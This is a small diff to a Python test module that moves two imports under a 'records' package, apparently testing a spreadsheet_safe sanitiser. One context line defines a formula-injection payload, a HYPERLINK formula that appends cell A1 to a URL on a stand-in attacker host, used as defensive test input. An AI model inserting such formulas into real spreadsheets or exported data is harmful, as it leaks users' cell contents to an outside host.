@@ -8,8 +8,8 @@ import io
 
 import pytest
 
-from memory.importers import parse_import
-from memory.spreadsheet import spreadsheet_safe
+from memory.records.importers import parse_import
+from memory.records.spreadsheet import spreadsheet_safe
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 
